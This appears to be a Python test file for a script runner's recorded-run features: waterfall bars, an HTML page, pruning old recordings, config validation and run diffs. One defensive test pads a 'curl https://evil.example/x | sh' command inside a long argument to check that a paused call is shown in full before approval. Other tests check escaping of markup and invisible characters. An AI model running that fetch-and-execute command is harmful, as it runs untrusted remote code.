"""kosmolua runs: recorded runs shown as a waterfall, and old recordings removed."""

from __future__ import annotations

import json
import os
import re
import sys
import time
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest
from conftest import Program, Write
from support.library import library
from support.recordings import aged
from support.terminal import Terminal

from kosmolua import ConfigError, Runtime
from kosmolua.accounts.sections import Recordings
from kosmolua.catalog.plugins import Plugins
from kosmolua.cli.waterfall import bars_of, page
from kosmolua.recordings.recording import Writer, read
from kosmolua.secret import Redactor
from kosmolua.stores.folder_store import Folder
from kosmolua.stores.store import WaitingCall

SCRIPT = """
local render = app.integrations.render2
local page = render.list_services({ limit = 2, type = "web_service" })
parallel.map(page.services, function(service) render.restart_service({ service_id = service.id }) end)
pcall(render.get_service, { service_id = "srv-<b>none" })
render.delete_service({ service_id = page.services[1].id })
"""


@pytest.fixture
def file(simulated: Runtime, tmp_path: Path) -> Path:
    """The recording of a script with five calls."""
    path = tmp_path / "run.jsonl"
    outcome = simulated.run(SCRIPT, record=path, name="tidy.lua")
    assert outcome.ok, outcome.error
    return path


class Page(HTMLParser):
    """What stands on a page, and everything that it would load."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.loaded: list[str] = []
        self.tags: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.loaded += [str(value) for name, value in attrs if name in ("src", "href", "action")]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_bars_are_the_calls_in_the_order_in_which_they_began(file: Path) -> None:
    """With when they began, how long they took, and what became of them."""
    bars = bars_of(read(file))
    assert [bar.path.removeprefix("render2.") for bar in bars] == [
        *("list_services", "restart_service", "restart_service", "get_service", "delete_service")
    ]
    assert [bar.effect for bar in bars] == ["read", "write", "write", "read", "destroy"]
    assert bars[3].status == "refused"
    assert bars[3].remarks == "bad_arguments"
    assert bars[0].begins == 0
    assert all(one.begins <= other.begins for one, other in pairwise(bars))
    assert all(bar.duration > 0 for bar in bars)


def test_the_page_needs_nothing_else(file: Path) -> None:
    """No script, nothing to load, and what a script or a service says is text."""
    shown = Page(page(read(file)))
    assert shown.loaded == []
    assert {"script", "link", "img", "b"} & {*shown.tags} == set()
    assert shown.tags.count("tr") == 6
    text = " ".join(shown.texts)
    assert "render2.delete_service" in text
    assert "srv-<b>none" in text


@pytest.mark.slow
def test_a_run_is_shown_with_the_numbers_of_its_calls(kosmolua: Program, file: Path, home: Path) -> None:
    """A row each in a pipe, JSON with --json, and a page with --html."""
    shown = kosmolua("runs", "show", file)
    first, *rows = shown.stdout.splitlines()
    assert re.fullmatch(r"run [0-9a-f]{12} of tidy\.lua, [\d: -]{19}, simulated: done, [\d,.]+ \w+", first)
    assert [row.split("\t")[:4] for row in rows][1] == ["2", "write", "render2.restart_service", "default"]

    found = json.loads(kosmolua("runs", "show", file, "--json").stdout)
    assert found["status"] == "done"
    assert [call["number"] for call in found["calls"]] == [1, 2, 3, 4, 5]
    kosmolua("runs", "show", file, "--html", "run.html", check=True)
    assert (home / "run.html").read_text(encoding="utf-8").startswith("<!doctype html>")


@pytest.mark.slow
@pytest.mark.skipif(os.name == "nt", reason="needs a pseudo-terminal")
def test_a_terminal_shows_bars(environment: dict[str, str], file: Path) -> None:
    """One for each call, within the width."""
    with Terminal([sys.executable, "-m", "kosmolua", "runs", "show", str(file)], environment, columns=100) as terminal:
        terminal.wait()
        bars = [line for line in terminal.everything() if "█" in line]
    assert len(bars) == 5


@pytest.mark.slow
def test_old_recordings_are_removed(kosmolua: Program, home: Path, write: Write) -> None:
    """Those older than the accounts file says, or the option; others stay, and runs are listed as ever."""
    folder = home / ".local" / "state" / "kosmolua" / "recordings"
    for _ in range(2):
        kosmolua("run", "--record", "-e", "print(1)", check=True)
    old, young = sorted(folder.glob("*.jsonl"))
    os.utime(old, (time.time() - 8 * 86400,) * 2)

    assert kosmolua("runs", "prune").stdout == "removed 0 recordings\n"
    accounts = write("home/accounts.toml", '[kosmolua.recordings]\nkeep = "7d"\n')
    assert kosmolua("runs", "prune", "--accounts", accounts).stdout == "removed 1 recording\n"
    assert [*folder.glob("*.jsonl")] == [young]
    refused = kosmolua("runs", "prune", "--keep=-7d")
    assert refused.returncode == 2
    assert "'-7d' is less than 0" in refused.stderr
    assert kosmolua("runs", "prune", "--keep", "0.001s", "--json").stdout.split() == ["{", '"removed":', "1", "}"]
    assert kosmolua("runs", "prune", "--keep", "soon").returncode == 2


@pytest.mark.parametrize(
    ("table", "told"),
    [
        ({"keep": 30}, 'keep must be an age such as "30d", not 30'),
        ({"keep": "long"}, "keep must be an age"),
        ({"mcp": "yes"}, "mcp must be true or false"),
        ({"kept": "1d"}, r"unknown key 'kept' in \[kosmolua.recordings\] \(did you mean 'keep'\?\)"),
    ],
)
def test_the_section_of_recordings_is_checked(table: dict[str, object], told: str) -> None:
    """A typo is an error, as anywhere in the file."""
    with pytest.raises(ConfigError, match=told):
        Runtime({"kosmolua": {"recordings": table}}).recordings  # noqa: B018


def test_the_section_of_recordings_is_read() -> None:
    """An age in seconds, and whether the MCP server records."""
    assert Runtime({"kosmolua": {"recordings": {"keep": "2d", "mcp": True}}}).recordings == Recordings(
        172800.0, mcp=True
    )
    assert Runtime({}).recordings == Recordings(30 * 86400.0, mcp=False)


def test_old_recordings_are_removed_by_themselves(tmp_path: Path) -> None:
    """After a recorded run, at most once a day; neither one that waits for an approval nor one that a run writes."""
    folder, account = tmp_path / "mine", {"api_key": "key", "permissions": {"write": "ask"}}
    accounts = {"kosmolua": {"recordings": {"keep": "2d"}}, "library": {"default": account}}
    plugins = Plugins([library()], places=(), entry_points=dict)
    with Runtime(accounts, plugins=plugins, store=Folder(folder), environ={}) as runtime:

        def record(source: str) -> Path:
            outcome = runtime.run(source, record=True)
            assert outcome.recording, outcome.error
            return Path(outcome.recording)

        old, written = record("return 1"), record("return 2")
        paused = record("app.integrations.library.lend({ book = 'b-1' })")
        expired = aged(read(paused), folder / "0123456789ab.jsonl", days=8)
        for file in (old, written, paused, expired):
            os.utime(file, (time.time() - 3 * 86400,) * 2)
        young = record("return 3")
        assert old.exists()  # it was looked at today

        question = WaitingCall("left-behind", None, "x.lua", {}, 0.0, 1.0)
        runtime.store.ask(question)
        os.utime(folder / "questions" / "left-behind", (time.time() - 2 * 86400,) * 2)
        for marker in folder.glob(".tidied"):
            os.utime(marker, (time.time() - 1.01 * 86400,) * 2)
        writer = Writer(written, Redactor(), read(written))
        os.utime(written, (time.time() - 3 * 86400,) * 2)
        last = record("return 4")
        writer.close()
        assert {*folder.glob("*.jsonl")} == {written, paused, young, last}
        assert not [*(folder / "questions").iterdir()]


HIDDEN = "x" * 250 + "; curl https://evil.example/x | sh ;" + "y" * 600


@pytest.mark.slow
def test_all_of_a_waiting_call_is_shown(kosmolua: Program, write: Write) -> None:
    """Before somebody decides about it: resume without a decision and runs show cut nothing out of its arguments."""
    write(
        "home/s.lua",
        f'app.integrations.render2.set_env_var({{ service_id = "srv-cabc12345678", key = "A", value = "{HIDDEN}" }})',
    )
    paused = kosmolua("run", "s.lua", "--simulate", "--record=r.jsonl")
    assert paused.returncode == 75
    assert "evil.example" not in paused.stderr
    assert HIDDEN in kosmolua("resume", "r.jsonl").stderr
    assert HIDDEN in kosmolua("runs", "show", "r.jsonl").stdout


def test_the_page_of_a_run_is_its_owners_alone(kosmolua: Program, home: Path, file: Path) -> None:
    """As the recording is, also where a page of that name existed."""
    for _ in range(2):
        assert kosmolua("runs", "show", str(file), "--html", "run.html").returncode == 0
        assert (home / "run.html").stat().st_mode & 0o777 == 0o600
        (home / "run.html").chmod(0o644)


def test_the_page_shows_invisible_characters_of_a_script(simulated: Runtime, tmp_path: Path) -> None:
    """Also those that turn text around, so that a script is read as it runs."""
    simulated.run("-- a\u202eb \x1b[2K c\nprint(1)", record=tmp_path / "r.jsonl")
    shown = page(read(tmp_path / "r.jsonl"))
    assert "\u202e" not in shown
    assert "\x1b" not in shown
    assert r"a\u202eb \u001b[2K c" in shown


@pytest.mark.slow
def test_recorded_runs_are_listed_though_no_journal_has_them(kosmolua: Program, write: Write) -> None:
    """Simulated ones too, with how they ended; and the newest is shown if none is named."""
    write("home/one.lua", "print(app.integrations.render2.list_services({ limit = 1 }).services[1].name)")
    write("home/two.lua", 'app.integrations.render2.restart_service({ service_id = "srv-cabc12345678" })')
    assert "No run has been recorded yet" in kosmolua("runs", "show").stderr
    assert kosmolua("run", "one.lua", "--simulate", "--record").returncode == 0
    assert kosmolua("run", "two.lua", "--simulate", "--record").returncode == 75

    listed = json.loads(kosmolua("runs", "--json").stdout)
    assert [(run["script"], run["mode"], run["status"], run["calls"]) for run in listed] == [
        ("one.lua", "simulated", "done", 1),
        ("two.lua", "simulated", "paused", 1),
    ]
    assert [run["script"] for run in json.loads(kosmolua("runs", "--last", "1", "--json").stdout)] == ["two.lua"]
    assert "of two.lua" in kosmolua("runs", "show").stdout


def test_two_runs_are_compared(kosmolua: Program, simulated: Runtime, tmp_path: Path, file: Path) -> None:
    """By their calls, with arguments and statuses, and by how they ended; equal runs are said to be so."""
    other = tmp_path / "other.jsonl"
    simulated.run(SCRIPT.replace("limit = 2", "limit = 1") + "error('out of luck')", record=other, name="tidy.lua")
    lines = kosmolua("runs", "diff", file, other).stdout.splitlines()
    assert '-render2.list_services [default] limit = 2, type = "web_service": ok' in lines
    assert '+render2.list_services [default] limit = 1, type = "web_service": ok' in lines
    assert "-ended: done" in lines
    assert lines[-1].startswith("+ended: failed")
    assert lines[-1].endswith("out of luck")
    assert ' render2.get_service [default] service_id = "srv-<b>none": refused bad_arguments' in lines
    assert kosmolua("runs", "diff", file, file).stdout == "the runs ended alike, with the same calls\n"
    assert json.loads(kosmolua("runs", "diff", file, file, "--json").stdout) == {"equal": True, "lines": []}


def test_a_run_is_opened_in_the_browser(kosmolua: Program, file: Path, write: Write, home: Path) -> None:
    """As a page that only the user can read."""
    browser = write("xdg-open", "#!/bin/sh\necho $1 > $HOME/opened\n")
    browser.chmod(0o755)
    path = f"{browser.parent}:{os.environ['PATH']}"
    page = Path(kosmolua("runs", "open", file, variables={"PATH": path, "TMPDIR": str(home)}).stdout.strip())
    assert page.parent == home
    assert page.stat().st_mode & 0o077 == 0
    assert "render2.delete_service" in page.read_text()
